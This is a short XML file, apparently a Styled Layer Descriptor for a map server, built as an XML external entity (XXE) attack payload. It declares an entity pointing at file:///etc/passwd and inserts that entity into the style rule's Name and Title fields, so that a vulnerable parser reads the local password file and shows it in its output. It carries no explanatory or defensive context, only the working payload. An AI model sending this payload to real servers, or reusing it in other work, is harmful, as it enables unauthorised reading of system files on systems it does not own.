<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<StyledLayerDescriptor version="1.0.0" xmlns="http://www.opengis.net/sld" xmlns:ogc="http://www.opengis.net/ogc">
<NamedLayer><Name>h</Name><UserStyle><FeatureTypeStyle>
<Rule><Name>&e;</Name><Title>&e;</Title></Rule>
</FeatureTypeStyle></UserStyle></NamedLayer></StyledLayerDescriptor>
